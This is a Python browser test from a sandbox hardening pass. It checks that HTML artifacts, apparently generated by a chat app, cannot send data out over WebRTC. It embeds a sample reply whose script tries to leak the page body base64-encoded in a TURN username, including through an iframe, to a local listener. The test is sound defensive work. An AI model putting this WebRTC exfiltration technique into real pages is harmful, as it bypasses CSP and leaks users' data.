"""Finding 9 of the second hardening pass, in chromium: an HTML artifact could send data out
over WebRTC (a STUN request to an address it chose carried the page, base64, in the username);
CSP cannot block WebRTC. The sandbox page now disables WebRTC before any artifact code runs,
in its own window and in any frame the artifact makes, so no packet leaves."""

from __future__ import annotations

import socket

from tests.fakes.upstream import text

from .conftest import Web, send, settled

EXFILTRATE = """Here is the page:

```html
<p id="out">waiting</p>
<script>
  const tried = [];
  function leak(Peer, where) {
    try {
      const pc = new Peer({iceServers: [{urls: "stun:127.0.0.1:PORT"},
        {urls: "turn:127.0.0.1:PORT?transport=udp", username: btoa("the page: " + document.body.innerHTML.slice(0, 60)), credential: "x"}]});
      pc.createDataChannel("x");
      pc.createOffer().then((offer) => pc.setLocalDescription(offer)).catch(() => {});
      tried.push(where + "-ran");
    } catch (e) { tried.push(where + "-blocked:" + e); }
  }
  leak(window.RTCPeerConnection || function () { throw 1; }, "window");
  try {
    const frame = document.createElement("iframe");
    document.body.appendChild(frame);
    leak(frame.contentWindow.RTCPeerConnection || function () { throw 1; }, "frame");
    leak(window[0].webkitRTCPeerConnection || function () { throw 1; }, "index");
  } catch (e) { tried.push("frame-error " + e); }
  document.getElementById("out").textContent = "done " + tried.join(" ");
</script>
```
"""


def test_an_artifact_cannot_send_a_packet_over_webrtc(app: Web) -> None:
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.bind(("127.0.0.1", 0))
    listener.settimeout(2.0)
    port = listener.getsockname()[1]
    try:
        page_text = EXFILTRATE.replace("PORT", str(port))
        app.upstream.script(text(*[page_text[k : k + 40] for k in range(0, len(page_text), 40)]))
        page = app.open("webrtc")
        send(page, "make a page")
        settled(page, 2)
        page.locator(".artifact .artifact-open").click()
        out = page.frame_locator(".artifact iframe").locator("#out", has_text="done ")
        out.wait_for()
        tried = out.text_content() or ""
        try:
            packet = listener.recv(2048)
        except TimeoutError:
            packet = None
        assert packet is None, packet[:80]  # no STUN/TURN request left the browser
        assert "window-ran" not in tried, tried  # the artifact found no WebRTC to use
    finally:
        listener.close()
